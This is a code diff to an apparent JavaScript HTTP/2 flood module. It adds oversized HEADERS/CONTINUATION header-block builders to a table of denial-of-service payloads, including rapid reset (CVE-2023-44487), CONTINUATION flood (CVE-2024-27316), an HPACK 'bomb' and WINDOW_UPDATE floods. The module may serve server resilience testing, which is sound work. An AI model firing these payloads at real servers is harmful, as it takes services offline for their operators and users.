@@ -17,6 +17,11 @@ const unfinished = (path) => [headers(1, GET(path), END_STREAM)];
 const bomb = Buffer.concat([Buffer.from([0x40, 1, 0x62, 0x7f, 0x81, 0x17]), Buffer.alloc(3072, 'b'), Buffer.alloc(12_000, 0xbe)]);
 const indexed = Buffer.alloc(8000, 0x82);
 
+/* A header block with 16,000 fields of a byte each behind `fields`. */
+export const long = (stream, fields = []) => Buffer.concat([
+	frame(TYPE.HEADERS, END_STREAM, stream, Buffer.concat([block(fields), indexed])),
+	frame(TYPE.CONTINUATION, END_HEADERS, stream, indexed)]);
+
 export const FLOODS = {
 	'rapid reset (CVE-2023-44487)': [(path) => (i) => Buffer.concat([headers(id(i), GET(path)), reset(id(i))])],
 	'resets that the server is made to send (CVE-2025-8671)': [(path) => (i) =>
@@ -31,9 +36,8 @@ export const FLOODS = {
 	'WINDOW_UPDATE for what was not sent': [() => () => windowUpdate(0, 4096)],
 	'WINDOW_UPDATE for a stream that is over': [() => () => windowUpdate(1, 4096), (path) => [headers(1, GET(path)), reset(1)]],
 	'HEADERS for a stream that is over': [(path) => () => headers(1, GET(path)), (path) => [headers(1, GET(path)), reset(1)]],
-	'CONTINUATION for a stream that is over': [() => () => Buffer.concat([
-		frame(TYPE.HEADERS, END_STREAM, 1, indexed), frame(TYPE.CONTINUATION, END_HEADERS, 1, indexed)]),
-	(path) => [headers(1, GET(path)), reset(1)]],
+	'CONTINUATION for a stream that is over': [() => () => long(1), (path) => [headers(1, GET(path)), reset(1)]],
+	'fields behind one that is refused': [(path) => (i) => long(id(i), [...GET(path), ['Upper', 'x']])],
 	'empty DATA': [() => () => data(1, ''), unending],
 	'DATA of padding alone': [() => () => frame(TYPE.DATA, 8, 1, Buffer.from([3, 0, 0, 0])), unending],
 	'CONTINUATION (CVE-2024-27316)': [() => () => frame(TYPE.CONTINUATION, 0, 1, block([['x', 'y']])), unfinished],
